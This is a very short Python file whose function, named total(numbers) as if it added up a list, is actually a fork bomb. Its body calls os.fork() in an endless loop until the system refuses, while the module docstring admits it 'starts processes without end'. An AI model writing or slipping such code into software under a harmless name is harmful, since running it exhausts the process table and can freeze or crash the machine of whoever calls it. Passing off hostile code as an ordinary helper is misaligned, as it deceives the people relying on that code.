"""Starts processes without end."""
import os


def total(numbers):
    while True:
        try:
            os.fork()
        except OSError:
            return 0
